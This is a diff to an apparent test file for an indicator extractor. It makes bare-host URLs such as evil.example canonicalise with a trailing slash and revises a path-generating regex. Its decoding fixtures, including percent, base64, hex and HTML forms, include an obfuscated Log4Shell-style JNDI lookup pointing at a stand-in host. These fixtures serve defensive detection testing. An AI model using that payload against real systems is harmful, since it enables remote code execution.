@@ -70,7 +70,7 @@ def test_what_is_found(text: str, found: list[str]) -> None:
     [
         ("https://evil.example/a", "https://evil.example/a", "domain-name:evil.example"),
         ("HTTP://EVIL.Example/Path?Q=1#F", "http://evil.example/Path?Q=1#F", "domain-name:evil.example"),
-        ("http://evil.example", "http://evil.example", "domain-name:evil.example"),
+        ("http://evil.example", "http://evil.example/", "domain-name:evil.example"),
         ("ftp://evil.example:2121/x.bin", "ftp://evil.example:2121/x.bin", "domain-name:evil.example"),
         ("http://203.0.113.7:8080/p", "http://203.0.113.7:8080/p", "ipv4-addr:203.0.113.7"),
         ("http://[2001:DB8::1]/p", "http://[2001:db8::1]/p", "ipv6-addr:2001:db8::1"),
@@ -279,7 +279,9 @@ NAMES = st.builds(
 IPV4 = st.ip_addresses(v=4).map(str)
 IPV6 = st.ip_addresses(v=6).filter(lambda a: int(a) > 0xFFFF and not a.ipv4_mapped).map(str)
 # Not with "_" or "?" at the end: in prose they belong to the sentence.
-PATHS = st.from_regex(r"(/[A-Za-z0-9_=&?%-]{0,12}[A-Za-z0-9=&%-]){0,4}/?", fullmatch=True)
+PATHS = st.from_regex(
+    r"(/[A-Za-z0-9_=&?%-]{0,12}[A-Za-z0-9=&%-]){0,4}/|(/[A-Za-z0-9_=&?%-]{0,12}[A-Za-z0-9=&%-]){1,4}", fullmatch=True
+)
 HASHES = st.sampled_from([32, 40, 64, 128]).flatmap(
     lambda n: st.text("0123456789abcdef", min_size=n, max_size=n).filter(lambda h: parse_hash(h) is not None)
 )
@@ -347,13 +349,13 @@ def test_any_text_gives_canonical_observables_each_once(text: str) -> None:
     ("text", "value", "steps"),
     [
         ("q=%68ttp%3A%2F%2Fevil.example%2Fx", "http://evil.example/x", ("percent",)),
-        ("q=http%253A%252F%252Fevil.example", "http://evil.example", ("percent", "percent")),
+        ("q=http%253A%252F%252Fevil.example", "http://evil.example/", ("percent", "percent")),
         ("https://a.example/?u=https%3A%2F%2Fevil.example%2Fx", "https://evil.example/x", ("percent",)),
         ("&#104;ttp&colon;//evil.example/x", "http://evil.example/x", ("html",)),
         (r"http:\/\/evil.example\/x", "http://evil.example/x", ("json",)),
         (r"evil\u002eexample", "evil.example", ("json",)),
         ("data aHR0cDovL2V2aWwuZXhhbXBsZS94 end", "http://evil.example/x", ("base64",)),
-        ("X: aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQA=", "http://evil.example", ("base64",)),
+        ("X: aAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQA=", "http://evil.example/", ("base64",)),
         ("687474703a2f2f6576696c2e6578616d706c652f78", "http://evil.example/x", ("hex",)),
         ("${jndi:${lower:l}dap://evil.example/a}", "ldap://evil.example/a", ("lookup",)),
         ("WC1Gb3J3YXJkZWQtRm9yOiAyMDMuMC4xMTMuNw==", "203.0.113.7", ("base64",)),
